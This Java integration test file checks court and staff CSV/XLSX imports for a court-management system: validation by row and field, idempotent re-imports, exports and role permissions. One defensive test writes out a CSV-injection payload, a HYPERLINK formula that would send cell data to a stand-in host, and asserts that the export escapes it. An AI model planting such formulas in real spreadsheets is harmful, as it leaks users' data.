package org.quanze.organization;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;
import org.quanze.Http;
import org.quanze.QuanzeIntegrationTest;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;

/** Court and staff imports through the API on a real PostgreSQL: all-or-nothing, idempotent, errors by row and field. */
@QuanzeIntegrationTest
class OrganizationImportIntegrationTests {

    private static final String ADMIN = "admin";
    private static final String CSV = "text/csv";

    @Autowired JdbcTemplate jdbc;
    @LocalServerPort int port;

    private Http http() {
        return new Http(port);
    }

    private Http.Response post(String path, String body) {
        return http().post(path, CSV, body.getBytes(StandardCharsets.UTF_8), ADMIN, QuanzeIntegrationTest.ADMIN_PASSWORD);
    }

    @Test
    void aGoodFileIsStoredAndReimportingItChangesNothing() {
        String courts = """
                code,name,level,parent_code,special
                测,测试省高级人民法院,高级,,
                测01,测试省第一中级人民法院,中级,测,
                测0102,测试省甲区人民法院,基层,测01,
                """;
        Http.Response first = post("/api/v1/imports/courts", courts);
        assertThat(first.status()).isEqualTo(200);
        assertThat(first.body()).contains("\"created\":3");
        Http.Response again = post("/api/v1/imports/courts", courts);
        assertThat(again.body()).contains("\"created\":0").contains("\"updated\":0").contains("\"unchanged\":3");

        String staff = """
                staff_no,name,court_code,department,role,posts,quota_from,quota_to,team,gender
                T-1,甲法官,测0102,民一庭,员额法官,庭长;审判委员会委员,2016-01-01,,民一庭第1团队,男
                T-2,乙助理,测0102,民一庭,法官助理,,,,民一庭第1团队,女
                T-3,丙法官,测0102,民一庭,员额法官,,2016-01-01,2018-06-30,,女
                """;
        Http.Response stored = post("/api/v1/imports/staff", staff);
        assertThat(stored.status()).isEqualTo(200);
        assertThat(stored.body()).contains("\"created\":3").contains("\"ignoredColumns\":[\"gender\"]");
        assertThat(post("/api/v1/imports/staff", staff).body()).contains("\"unchanged\":3");

        Http.Response headcount = http().get("/api/v1/courts/" + Http.encode("测0102") + "/quota-headcount?on=2017-06-01",
                ADMIN, QuanzeIntegrationTest.ADMIN_PASSWORD);
        assertThat(headcount.body()).contains("\"quotaJudges\":2");
        Http.Response later = http().get("/api/v1/courts/" + Http.encode("测0102") + "/quota-headcount?on=2019-01-01",
                ADMIN, QuanzeIntegrationTest.ADMIN_PASSWORD);
        assertThat(later.body()).contains("\"quotaJudges\":1");
        Http.Response during = http().get("/api/v1/courts/" + Http.encode("测0102") + "/quota-headcount?from=2019-01-01&to=2019-12-31",
                ADMIN, QuanzeIntegrationTest.ADMIN_PASSWORD);
        assertThat(during.body()).contains("\"quotaJudges\":1");
    }

    @Test
    void aFileWithAnyBadRowStoresNothingAndNamesEveryBadRowAndField() {
        long staffBefore = jdbc.queryForObject("SELECT count(*) FROM organization.staff", Long.class);
        String staff = """
                staff_no,name,court_code,department,role,posts,quota_from,quota_to
                B-1,好人,吉0102,民一庭,员额法官,,2016-01-01,
                B-2,坏法院,无此法院,民一庭,员额法官,,2016-01-01,
                B-1,重复,吉0102,民一庭,书记员,,,
                B-4,坏日期,吉0102,民一庭,员额法官,,2016-02-30,
                B-5,坏职务,吉0102,民一庭,员额法官,大法官,2016-01-01,
                B-6,助理入额,吉0102,民一庭,法官助理,,2016-01-01,
                """;
        Http.Response response = post("/api/v1/imports/staff", staff);
        assertThat(response.status()).isEqualTo(422);
        assertThat(response.contentType()).startsWith("application/problem+json");
        assertThat(response.body())
                .contains("{\"row\":2,\"field\":\"court_code\"")
                .contains("{\"row\":3,\"field\":\"staff_no\"")
                .contains("{\"row\":4,\"field\":\"quota_from\"")
                .contains("{\"row\":5,\"field\":\"posts\"")
                .contains("{\"row\":6,\"field\":\"quota_from\"")
                .doesNotContain("\"row\":1,");
        assertThat(jdbc.queryForObject("SELECT count(*) FROM organization.staff", Long.class)).isEqualTo(staffBefore);
        assertThat(jdbc.queryForObject("SELECT count(*) FROM organization.staff WHERE staff_no = 'B-1'", Long.class)).isZero();
    }

    @Test
    void anOfficePhoneIsImportedCheckedAndKeptByAFileWithoutThatColumn() {
        Http.Response stored = post("/api/v1/imports/staff", """
                staff_no,name,court_code,department,role,office_phone
                P-1,电话书记员,吉0102,民一庭,书记员,0431-88886666-8012
                """);
        assertThat(stored.status()).as(stored.body()).isEqualTo(200);
        assertThat(phoneOf("P-1")).isEqualTo("0431-88886666-8012");

        Http.Response wrong = post("/api/v1/imports/staff", """
                staff_no,name,court_code,department,role,office_phone
                P-1,电话书记员,吉0102,民一庭,书记员,找书记员
                """);
        assertThat(wrong.status()).isEqualTo(422);
        assertThat(wrong.body()).contains("{\"row\":1,\"field\":\"office_phone\"");

        Http.Response without = post("/api/v1/imports/staff", """
                staff_no,name,court_code,department,role
                P-1,电话书记员,吉0102,民一庭,书记员
                """);
        assertThat(without.body()).contains("\"unchanged\":1");
        assertThat(phoneOf("P-1")).as("a file without the column leaves the phone").isEqualTo("0431-88886666-8012");

        post("/api/v1/imports/staff", """
                staff_no,name,court_code,department,role,office_phone
                P-1,电话书记员,吉0102,民一庭,书记员,
                """);
        assertThat(phoneOf("P-1")).as("an empty cell clears it").isNull();
    }

    private String phoneOf(String staffNo) {
        return jdbc.queryForObject("SELECT office_phone FROM organization.staff WHERE staff_no = ?", String.class, staffNo);
    }

    @Test
    void courtCodesMustFollowTheCaseNumberScheme() {
        Http.Response response = post("/api/v1/imports/courts", """
                code,name,level,parent_code
                吉010,错代字法院,基层,吉01
                吉09,无上级中院,中级,
                吉0999,上级不对法院,基层,吉
                """);
        assertThat(response.status()).isEqualTo(422);
        assertThat(response.body()).contains("{\"row\":1,\"field\":\"code\"").contains("{\"row\":2,\"field\":\"parent_code\"")
                .contains("{\"row\":3,\"field\":\"parent_code\"");
    }

    @Test
    void exportsRoundTripAsCsvAndXlsx() {
        Http.Response csv = http().get("/api/v1/exports/staff.csv?court=" + Http.encode("吉0102"), ADMIN, QuanzeIntegrationTest.ADMIN_PASSWORD);
        assertThat(csv.status()).isEqualTo(200);
        assertThat(csv.body()).startsWith("\uFEFFstaff_no,name,court_code,department,role,posts,quota_from,quota_to,team");
        Http.Response reimported = post("/api/v1/imports/staff", csv.body());
        assertThat(reimported.body()).contains("\"created\":0").contains("\"updated\":0");

        Http.Response xlsx = http().get("/api/v1/exports/courts.xlsx", ADMIN, QuanzeIntegrationTest.ADMIN_PASSWORD);
        assertThat(xlsx.contentType()).contains("spreadsheetml");
        Http.Response fromXlsx = http().post("/api/v1/imports/courts", "application/octet-stream", xlsx.bytes(), ADMIN,
                QuanzeIntegrationTest.ADMIN_PASSWORD);
        assertThat(fromXlsx.status()).isEqualTo(200);
        assertThat(fromXlsx.body()).contains("\"created\":0").contains("\"updated\":0");
    }

    /** OWASP CSV Injection (issue 10 item 5): a name imported as a formula is exported as text, never as a formula. */
    @Test
    void aStaffNameThatIsAFormulaIsExportedAsText() {
        String formula = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"点击\")";
        String staff = "staff_no,name,court_code,department,role\nCSV-F1,\"" + formula.replace("\"", "\"\"")
                + "\",吉0102,民一庭,书记员\n";
        assertThat(post("/api/v1/imports/staff", staff).status()).isEqualTo(200);
        Http.Response csv = http().get("/api/v1/exports/staff.csv?court=" + Http.encode("吉0102"), ADMIN, QuanzeIntegrationTest.ADMIN_PASSWORD);
        String row = csv.body().lines().filter(l -> l.startsWith("CSV-F1,")).findFirst().orElseThrow();
        assertThat(row).startsWith("CSV-F1,\"'=HYPERLINK(");
        assertThat(csv.body()).doesNotContain(",\"=HYPERLINK").doesNotContain(",=HYPERLINK");
    }

    @Test
    void aJudgeMayNotImportAndIsToldWhichRuleRefuses() {
        Http.Response response = http().post("/api/v1/imports/courts", CSV, "code,name,level\n".getBytes(StandardCharsets.UTF_8),
                "judge", QuanzeIntegrationTest.DEMO_PASSWORD);
        assertThat(response.status()).isEqualTo(403);
        assertThat(response.body()).contains("\"rule\":\"未授权\"").contains("导入数据");
    }

    @Test
    void demoProvinceHasTheRealCourtStructureAndTheQuotaJudges() {
        assertThat(jdbc.queryForObject("SELECT count(*) FROM organization.court WHERE code LIKE '吉%'", Long.class)).isEqualTo(93);
        assertThat(jdbc.queryForObject("SELECT level FROM organization.court WHERE code = '吉71'", String.class)).isEqualTo("INTERMEDIATE");
        assertThat(jdbc.queryForObject("SELECT special FROM organization.court WHERE code = '吉75'", String.class)).isEqualTo("FORESTRY");
        assertThat(jdbc.queryForObject("SELECT p.code FROM organization.court c JOIN organization.court p ON p.id = c.parent_id WHERE c.code = '吉0102'", String.class))
                .isEqualTo("吉01");
        // Its cases came through the history import, each in its handling judge's division (the chief's data scope).
        assertThat(jdbc.queryForObject("SELECT count(*) FROM casefile.case_file WHERE imported", Long.class)).isPositive();
        assertThat(jdbc.queryForObject("""
                SELECT count(*) FROM casefile.case_file c JOIN organization.staff s ON s.id = c.handler_id
                WHERE c.imported AND c.department_id IS DISTINCT FROM s.department_id""", Long.class)).isZero();
    }
}
